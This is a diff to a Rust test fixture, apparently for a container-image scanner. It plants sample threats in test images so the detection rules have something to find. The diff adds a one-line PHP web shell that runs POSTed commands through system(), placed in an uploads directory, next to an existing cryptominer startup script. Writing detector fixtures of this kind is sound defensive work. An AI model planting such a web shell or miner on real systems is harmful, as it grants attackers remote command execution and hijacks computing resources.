@@ -9,8 +9,9 @@ use serde_json::json;
 /// A rule's name, its category, and an image that has what it speaks of.
 fn planted() -> Vec<(&'static str, &'static str, Image)> {
     let program = b"\x7fELF\x02\x01\x01 no real program".to_vec();
-    // In parts, so that nothing takes this file for it.
+    // In parts, so that nothing takes this file for them.
     let miner = format!("#!/bin/sh\n/opt/worker -o {}+tcp://pool.test:3333 --donate-level=1\n", "stratum");
+    let webshell = format!("<?php {}($_POST['c']);\n", "system");
     let above = |name: &str, layer: LayerBuilder| {
         let name = format!("detectors/{name}:1");
         Image::of(&name, [base(&name), layer])
@@ -47,6 +48,11 @@ fn planted() -> Vec<(&'static str, &'static str, Image)> {
             }),
         ),
         ("malware", "Malware", above("malware", LayerBuilder::new().file("opt/start", miner))),
+        (
+            "webshell",
+            "Webshell",
+            above("webshell", LayerBuilder::new().file("var/www/html/uploads/help.php", webshell)),
+        ),
     ]
 }
 
